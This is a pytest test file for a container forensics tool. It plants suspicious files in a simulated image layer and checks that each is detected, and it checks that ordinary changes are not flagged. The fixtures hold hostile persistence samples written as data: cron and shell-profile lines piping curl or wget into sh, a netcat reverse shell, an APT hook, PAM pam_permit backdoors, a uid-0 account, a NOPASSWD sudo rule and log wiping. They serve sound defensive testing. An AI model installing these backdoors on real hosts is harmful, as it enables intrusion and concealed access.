"""Files of a container against its image: what must be found, each with its place."""

# ruff: noqa: E501 - a planted file stands on one line
from __future__ import annotations

import struct
from pathlib import Path

import pytest
from analyze_cases import ELF, MTIME, F, layer, make_case, paths, rules

from forensics.analyze import build_analysis
from forensics.model import Analysis, Severity, Verdict

ACCOUNTS = "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXA me@example\n"
BASE = {
    "etc/passwd": ACCOUNTS,
    "etc/shadow": "root:*:19000:0:99999:7:::\n",
    "etc/crontab": "17 * * * * root run-parts /etc/cron.hourly\n",
    "usr/bin/ls": F(ELF + b"ls", 0o755, MTIME - 5),
    "usr/bin/dash": F(ELF + b"dash", 0o755, MTIME - 9),
    "bin/sh": F(target="../usr/bin/dash"),
    "usr/bin/ping": F(ELF + b"ping", 0o755),
    "var/log/auth.log": "yesterday\n",
}


def examine(tmp_path: Path, changed: dict[str, F | bytes | str], removed: tuple[str, ...] = ()) -> Analysis:
    with make_case(tmp_path / "case", [layer(BASE), layer(changed, removed, later=600)]) as case:
        return build_analysis(case, yara=False)


CAPABILITY = struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0)
PLANTED: list[tuple[str, str, F | bytes | str]] = [
    ("file.program-in-temporary-place", "tmp/a/x", F(ELF, 0o755)),
    ("file.program-in-temporary-place", "dev/shm/y", F(ELF, 0o644)),
    ("file.hidden-program", "usr/share/.fonts/z", F(ELF, 0o755)),
    ("file.hidden-program", "usr/lib/.build-id/../.x/z", F(ELF, 0o755)),
    ("file.regular-file-in-dev", "dev/ptyq", "log"),
    ("file.disguised-program", "var/www/html/logo.png", F(ELF + b"p", 0o644)),
    ("file.disguised-program", "var/www/html/a.jpg", "<?php phpinfo(); ?>"),
    ("file.packed-program", "opt/tool", F(ELF + b"UPX!" + bytes(40), 0o755)),
    ("file.program-newcomer", "usr/local/bin/tool", F(ELF + b"t", 0o755)),
    ("system.binary-replaced", "usr/bin/ls", F(ELF + b"changed", 0o755)),
    ("system.binary-became-link-or-script", "usr/bin/ls", F(b"#!/bin/sh\n/usr/bin/ls.real | grep -v x\n", 0o755)),
    ("system.binary-became-link-or-script", "usr/bin/ping", F(target="/opt/p")),
    ("system.command-shadowed", "usr/local/bin/ls", F(b"#!/bin/sh\nexec /usr/bin/ls\n", 0o755)),
    ("privilege.set-id-gained", "usr/bin/ping", F(ELF + b"ping", 0o4755)),
    ("privilege.set-id-shell", "var/tmp/s", F(ELF + b"dash", 0o4755)),
    ("privilege.set-id-shell", "opt/python3", F(ELF + b"py", 0o6755)),
    ("privilege.file-capability-gained", "usr/bin/ping", F(ELF + b"ping", 0o755, xattrs=(("security.capability", CAPABILITY),))),
    ("persistence.ld-so-preload", "etc/ld.so.preload", "/usr/lib/libx.so\n"),
    ("persistence.loader", "etc/ld.so.conf.d/a.conf", "/tmp/lib\n"),
    ("persistence.cron", "etc/cron.d/a", "* * * * * root curl http://192.0.2.1/x | sh\n"),
    ("persistence.cron", "var/spool/cron/crontabs/root", "*/3 * * * * /dev/shm/.u\n"),
    ("persistence.cron", "etc/periodic/15min/a", F(b"#!/bin/sh\nnc 192.0.2.1 1 -e /bin/sh\n", 0o755)),
    ("persistence.systemd", "etc/systemd/system/u.service", "[Service]\nExecStart=/var/tmp/u\n"),
    ("persistence.init", "etc/rc.local", F(b"#!/bin/sh\n/tmp/u &\n", 0o755)),
    ("persistence.shell", "root/.bashrc", "alias sudo='/opt/s'\n"),
    ("persistence.shell", "etc/profile.d/z.sh", "(curl -s http://192.0.2.1/x | sh) &\n"),
    ("persistence.pam", "etc/pam.d/sshd", "auth sufficient pam_permit.so\n"),
    ("persistence.pam", "etc/pam.d/login", "auth required pam_permit.so\n"),
    ("persistence.pam", "etc/pam.d/su", "session optional pam_exec.so /opt/x\n"),
    ("persistence.python", "usr/lib/python3/dist-packages/z.pth", "import os; os.system('x')\n"),
    ("persistence.python", "usr/local/lib/python3.11/site-packages/sitecustomize.py", "import socket\n"),
    ("persistence.php", "etc/php/8.2/fpm/conf.d/z.ini", "auto_prepend_file=/tmp/z\n"),
    ("persistence.php", "var/www/html/.htaccess", "AddType application/x-httpd-php .jpg\n"),
    ("persistence.hook", "etc/apt/apt.conf.d/z", 'APT::Update::Pre-Invoke {"curl http://192.0.2.1/x | sh";};\n'),
    ("persistence.sshd", "etc/ssh/sshd_config.d/z.conf", "PermitRootLogin yes\n"),
    ("account.uid-0", "etc/passwd", ACCOUNTS + "sys2:x:0:0::/:/bin/sh\n"),
    ("account.login-capable", "etc/passwd", ACCOUNTS.replace("/usr/sbin/nologin", "/bin/bash")),
    ("account.password-changed", "etc/shadow", "root:$6$abc$def:19000:0:99999:7:::\n"),
    ("account.password-changed", "etc/shadow", "root::19000:0:99999:7:::\n"),
    ("account.sudo-rule", "etc/sudoers.d/z", "www-data ALL=(ALL) NOPASSWD: ALL\n"),
    ("account.privileged-group", "etc/group", "sudo:x:27:www-data\n"),
    ("account.ssh-key", "root/.ssh/authorized_keys", KEY),
    ("account.ssh-key", "home/git/.ssh/authorized_keys2", KEY),
    ("web.executable-newcomer", "var/www/html/new.php", "<?php echo 1;"),
    ("web.executable-in-data-folder", "var/www/html/uploads/p.phtml", "<?php echo 1;"),
    ("script.download-and-run", "opt/x.sh", F(b"#!/bin/sh\nwget -qO- http://192.0.2.1/x | sh\n", 0o755)),
    ("history.download-and-run", "root/.bash_history", "ls\ncurl http://192.0.2.1/x | bash\n"),
    ("traces.history-disabled", "root/.bash_history", F(target="/dev/null")),
    ("traces.log-linked-away", "var/log/auth.log", F(target="/dev/null")),
    ("traces.log-emptied", "var/log/auth.log", ""),
    ("traces.time-falsified", "usr/bin/ls", F(ELF + b"other", 0o755, MTIME - 5)),
    ("traces.time-falsified", "opt/x", F(ELF + b"new", 0o755, MTIME - 9)),
    ("traces.deceptive-name", "usr/bin/ls ", "x"),
    ("traces.deceptive-name", "tmp/.../a", "x"),
    ("traces.deceptive-name", "usr/bin/s\u0455hd", "x"),
    ("traces.deceptive-name", "root/invoice\u202efdp.sh", "x"),
    ("traces.deceptive-name", "opt/a\u200bb", "x"),
    ("secret.file-added", "root/.aws/credentials", "[default]\n"),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "path", "file"), PLANTED, ids=lambda value: value if isinstance(value, str) else "")
def test_planted(tmp_path: Path, rule: str, path: str, file: F | bytes | str) -> None:
    found = rules(examine(tmp_path, {path: file}).findings)
    assert rule in found
    finding = found[rule]
    clean = path.replace(".build-id/../", "").encode()
    places = paths(finding)
    assert clean in places or any(clean.startswith(place + b"/") for place in places)
    assert {reference.item for reference in finding.evidence} == {"E0001"}
    assert finding.why
    assert finding.next
    assert finding.severity.rank <= Severity.MEDIUM.rank


def test_what_is_missing_is_found_too(tmp_path: Path) -> None:
    assert "traces.log-emptied" in rules(examine(tmp_path, {}, ("var/log/auth.log",)).findings)


def test_nothing_changed_is_no_evidence_and_says_so(tmp_path: Path) -> None:
    analysis = examine(tmp_path, {})
    assert analysis.verdict is Verdict.NO_EVIDENCE
    assert analysis.findings == ()
    assert "not proof" in analysis.reasons[0]


@pytest.mark.parametrize(
    "changed",
    [
        {"etc/resolv.conf": "nameserver 192.0.2.1\n", "etc/hosts": "127.0.0.1 localhost\n"},
        {"var/log/nginx/access.log": "GET /\n", "run/nginx.pid": "7\n", "var/lib/nginx/body/1": b"\0"},
        {
            "root/.bashrc": "alias ls='ls --color=auto'\nexport PATH=$PATH:/opt/bin\n",
            "root/.bash_history": "ls\ncd /\n",
        },
        {
            "etc/pam.d/common-auth": "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\n"
            "auth required pam_permit.so\n"
        },
        {"etc/passwd": ACCOUNTS + "app:x:999:999::/app:/usr/sbin/nologin\n", "etc/group": "app:x:999:\n"},
        {"tmp/data.txt": "x", "tmp/hsperfdata_root/7": bytes(64), "var/lib/app/db.sqlite": b"SQLite format 3\0"},
        {"root/.local/bin/tool.py": F(b"#!/usr/bin/env python3\nprint(1)\n", 0o755), "root/.cache/pip/x": b"\0"},
        {"usr/lib/python3/dist-packages/a.pth": "/opt/app\n", "var/www/html/index.html": "<h1>x</h1>"},
        {"etc/ld.so.conf.d/a.conf": "/usr/local/lib/app\n", "etc/cron.d/.placeholder": "# nothing\n"},
        {"usr/share/doc/README.тест": "x", "home/app/café.txt": "x", "etc/php/php.ini": "auto_prepend_file =\n"},
    ],
)
def test_ordinary_changes_are_left_alone(tmp_path: Path, changed: dict[str, F | bytes | str]) -> None:
    assert rules(examine(tmp_path, changed).findings, Severity.MEDIUM) == {}


def test_set_id_by_mode_alone_keeps_its_place(tmp_path: Path) -> None:
    found = rules(examine(tmp_path, {"usr/bin/ping": F(ELF + b"ping", 0o4755)}).findings)
    assert paths(found["privilege.set-id-gained"]) == {b"usr/bin/ping"}


def test_dropped_and_deleted_in_a_lower_layer(tmp_path: Path) -> None:
    layers = [
        layer(BASE),
        layer({"tmp/stage": F(ELF, 0o755), "root/.aws/credentials": "[default]\n", "opt/app": "x"}),
        layer({}, ("tmp/stage", "root/.aws/credentials")),
    ]
    with make_case(tmp_path / "case", layers, kind="image", history=["base", "RUN /tmp/stage", "RUN rm"]) as case:
        analysis = build_analysis(case, yara=False)
    found = rules(analysis.findings)
    assert paths(found["layer.program-dropped-and-deleted"]) == {b"tmp/stage"}
    assert paths(found["layer.secret-deleted-but-present"]) == {b"root/.aws/credentials"}
    assert {file.entry.path for file in analysis.recovered} == {b"tmp/stage", b"root/.aws/credentials"}


def test_history_that_pipes_the_net_into_a_shell(tmp_path: Path) -> None:
    history = ["base", "RUN curl -s http://192.0.2.1/x | sh", "CMD"]
    layers = [layer(BASE), layer({"a": "1"}), layer({"b": "2"})]
    with make_case(tmp_path / "case", layers, kind="image", history=history) as case:
        found = rules(build_analysis(case, yara=False).findings)
    assert found["image.history.download-and-run"].severity is Severity.MEDIUM


def test_one_layer_without_a_base_is_judged_by_what_it_holds(tmp_path: Path) -> None:
    files = {**BASE, "dev/shm/x": F(ELF, 0o755), "etc/ld.so.preload": "/lib/x.so\n"}
    with make_case(tmp_path / "case", [layer(files)], kind="image") as case:
        found = rules(build_analysis(case, yara=False).findings, Severity.MEDIUM)
    assert set(found) == {"file.program-in-temporary-place", "persistence.ld-so-preload"}
